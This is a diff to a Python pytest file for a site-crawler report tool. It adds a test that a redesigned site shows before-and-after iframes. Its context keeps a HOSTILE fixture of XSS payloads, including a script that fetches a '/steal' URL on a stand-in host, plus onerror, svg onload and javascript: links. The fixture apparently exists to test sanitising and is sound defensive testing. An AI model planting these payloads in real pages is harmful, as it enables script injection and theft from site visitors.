@@ -3,16 +3,20 @@
 from __future__ import annotations
 
 import re
+from pathlib import Path
 
 import pytest
 from lxml import etree
 
+from sitecrawl.crawl.store import Stores
 from sitecrawl.dom.page import Page
 from sitecrawl.dom.parse import parse
+from sitecrawl.extras.report.document import site_html
+from sitecrawl.extras.report.fleet import fleet_of
 from sitecrawl.extras.report.picture import Picture, picture_of
 from sitecrawl.site.model import SiteModel
 from sitecrawl.templates.template import Template
-from tests.report.fleets import story
+from tests.report.fleets import make_fleet, story
 
 HOSTILE = """<script>document.title = "caught"; fetch("http://news.example/steal")</script><img src=x onerror="top.x=1" alt='"><script>1</script>'>
 <iframe src="http://news.example/frame"></iframe><style>@import url(http://news.example/s.css); body{display:none}</style><svg onload="1"><a href="javascript:1">x</a></svg>
@@ -91,3 +95,21 @@ def test_pictures_are_bounded(template: Template, flood: str) -> None:
     picture = drawn(template, story(3, 1).replace('<div class="text">', f'{flood}<div class="text">{flood}'))
     assert len(picture.html) < 120_000
     assert not re.search(r"(?:<div[^>]*>){60}", picture.html)
+
+
+def test_a_redesign_is_shown_before_and_after(tmp_path: Path) -> None:
+    spread = make_fleet(tmp_path, 20)
+    for row in fleet_of(Stores(tmp_path)).sites:
+        root = etree.HTML(site_html(row, ""))
+        titles = root.xpath("//iframe/@title")
+        if spread.get(row.site) != "drifting":
+            assert not any("Before" in title for title in titles)
+            continue
+        assert titles == [
+            f"{what}, on a page of template-1" for what in ("Before, version 2 took", "Now, version 2 takes")
+        ]
+        cells = root.xpath("//tr[th='articleBody'][td/code]/td")
+        before, now = ("".join(cell.itertext()) for cell in cells)
+        assert now.startswith("We keep small files")
+        assert not before.startswith("We keep small files")
+        assert before.endswith("div.text")
